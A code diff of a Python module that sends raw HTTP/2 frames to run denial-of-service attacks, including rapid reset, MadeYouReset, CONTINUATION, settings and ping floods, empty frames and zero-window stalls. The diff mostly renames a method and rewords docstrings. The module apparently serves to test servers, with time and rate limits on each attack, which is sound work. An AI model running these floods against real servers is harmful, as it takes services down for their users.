@@ -1,4 +1,4 @@
-"""HTTP/2 as no client speaks it: single frames over a plain socket. Each attack is bounded in time and in its rate."""
+"""HTTP/2 abuse: single frames over a plain socket. Each attack is bounded in time and in rate."""
 
 from __future__ import annotations
 
@@ -21,15 +21,14 @@ from hyperframe.frame import (
     WindowUpdateFrame,
 )
 
-from .outcome import Outcome, paced
-from .target import Target
+from .target import Outcome, Target, paced
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 FRAME_BYTES = 16 * 1024
 
 
 class Connection:
-    """One connection; what comes back is counted whenever something is sent."""
+    """One connection, which counts received frames whenever it sends some."""
 
     def __init__(self, target: Target, outcome: Outcome, settings: dict[int, int] | None = None) -> None:
         self._outcome = outcome
@@ -44,19 +43,19 @@ class Connection:
         self.send(SettingsFrame(0, settings=settings or {}), start=PREFACE)
 
     def send(self, *frames: Frame, start: bytes = b"") -> None:
-        """Send frames, unless the other side takes no more; count what has come."""
+        """Send frames, and count the received ones. The connection ends if the server reads no more."""
         try:
             self._socket.settimeout(1)
             self._socket.sendall(start + b"".join(frame.serialize() for frame in frames))
-            self.hear()
+            self.receive()
         except TimeoutError:
             self._end("not read any more")
         except OSError:
-            self.hear()
+            self.receive()
             self._end("connection reset")
 
-    def hear(self) -> None:
-        """Count what has come."""
+    def receive(self) -> None:
+        """Count the received frames."""
         self._socket.setblocking(False)
         with suppress(BlockingIOError, OSError):
             while chunk := self._socket.recv(1 << 20):
@@ -87,7 +86,7 @@ class Connection:
     def request(
         self, *, path: str | None = None, method: str = "GET", ends: bool = True, **headers: str
     ) -> HeadersFrame:
-        """A new stream's HEADERS."""
+        """Return the HEADERS of a new stream."""
         pseudo = {":method": method, ":path": path or self._target.path, ":scheme": "http", ":authority": "localhost"}
         named = {**pseudo, **headers}
         frame = HeadersFrame(self._next_stream, self._encoder.encode(list(named.items())), flags=["END_HEADERS"])
@@ -100,7 +99,7 @@ class Connection:
 def repeat(
     target: Target, seconds: float, per_second: float, attack: Callable[[Connection], None], **settings: int
 ) -> Outcome:
-    """Do it so many times a second, on a new connection whenever the last one was ended."""
+    """Repeat the attack so many times a second, on a new connection whenever the last one was closed."""
     outcome = Outcome()
     connection = Connection(target, outcome)
     for _ in paced(seconds, per_second):
@@ -108,13 +107,13 @@ def repeat(
             connection = Connection(target, outcome)
         attack(connection)
         outcome.sent += 1
-    connection.hear() if connection.is_open else None
+    connection.receive() if connection.is_open else None
     connection.close()
     return outcome
 
 
 def rapid_reset(target: Target, seconds: float) -> Outcome:
-    """Requests that are taken back at once (CVE-2023-44487)."""
+    """Reset each request at once (CVE-2023-44487)."""
 
     def attack(connection: Connection) -> None:
         request = connection.request()
@@ -124,7 +123,7 @@ def rapid_reset(target: Target, seconds: float) -> Outcome:
 
 
 def made_you_reset(target: Target, seconds: float) -> Outcome:
-    """Requests that the server has to take back, for an error of the client's (CVE-2025-8671)."""
+    """Make the server reset each request, by an error of the client (CVE-2025-8671)."""
 
     def attack(connection: Connection) -> None:
         request = connection.request()
@@ -138,7 +137,7 @@ def made_you_reset(target: Target, seconds: float) -> Outcome:
 
 
 def data_after_end(target: Target, seconds: float) -> Outcome:
-    """The same by a body for a request that has none."""
+    """Make the server reset each request, by a body after its end."""
 
     def attack(connection: Connection) -> None:
         request = connection.request()
@@ -148,7 +147,7 @@ def data_after_end(target: Target, seconds: float) -> Outcome:
 
 
 def continuation_flood(target: Target, seconds: float) -> Outcome:
-    """Headers without an end."""
+    """Send headers without an end."""
     field = Encoder().encode([(f"x-{'a' * 100}", "b" * 100)], huffman=False)
     block = field * (FRAME_BYTES // len(field))
     open_streams: dict[int, int] = {}
@@ -167,19 +166,19 @@ def continuation_flood(target: Target, seconds: float) -> Outcome:
 
 
 def settings_flood(target: Target, seconds: float) -> Outcome:
-    """Settings, each of which has to be acknowledged."""
+    """Send settings, each of which has to be acknowledged."""
     flood = [SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}) for _ in range(10)]
     return repeat(target, seconds, 500, lambda connection: connection.send(*flood))
 
 
 def ping_flood(target: Target, seconds: float) -> Outcome:
-    """Pings, each of which has to be answered."""
+    """Send pings, each of which has to be answered."""
     flood = [PingFrame(0, b"01234567") for _ in range(10)]
     return repeat(target, seconds, 500, lambda connection: connection.send(*flood))
 
 
 def empty_frames(target: Target, seconds: float) -> Outcome:
-    """A body of frames without a byte (CVE-2019-9518)."""
+    """Send a body of empty frames (CVE-2019-9518)."""
     streams: dict[int, int] = {}
 
     def attack(connection: Connection) -> None:
@@ -195,7 +194,7 @@ def empty_frames(target: Target, seconds: float) -> Outcome:
 
 
 def zero_window(target: Target, seconds: float) -> Outcome:
-    """Large replies that are asked for and not taken: 4 connections of 100 streams."""
+    """Request large responses without reading them, on 4 connections of 100 streams."""
     outcome = Outcome()
     settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
     connections = [Connection(target, outcome, settings) for _ in range(4)]
@@ -205,7 +204,7 @@ def zero_window(target: Target, seconds: float) -> Outcome:
             connection.send(connection.request(path=target.large_path))
             outcome.sent += 1
         elif connection.is_open:
-            connection.hear()
+            connection.receive()
     for connection in connections:
         connection.close()
     return outcome
